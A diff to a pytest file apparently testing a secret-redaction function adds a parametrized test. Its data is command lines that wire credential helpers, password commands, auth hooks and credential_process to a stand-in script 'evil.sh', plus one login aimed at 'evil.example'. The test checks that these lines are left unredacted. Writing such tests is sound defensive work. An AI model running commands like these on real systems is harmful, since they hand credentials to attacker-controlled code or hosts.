@@ -63,6 +63,20 @@ def test_what_a_name_says_about_a_secret_is_shown(about: str) -> None:
     assert redaction({"token": "hunter2"}).hidden == 1
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "git -c credential.helper=!evil.sh push",
+        "restic --password-command=evil.sh backup",
+        "certbot --manual-auth-hook=evil.sh",
+        "aws configure set credential_process=evil.sh",
+        "login --auth-host=evil.example",
+    ],
+)
+def test_what_runs_to_get_a_secret_and_who_is_sent_it_is_shown(text: str) -> None:
+    assert redaction(text) == (text, 0)
+
+
 @pytest.mark.parametrize("word", examples.NOTHING)
 def test_a_word_for_nothing_is_shown_under_the_name_of_a_secret(word: str) -> None:
     assert redaction({"auth": word, "AUTH": word.upper()}).hidden == 0
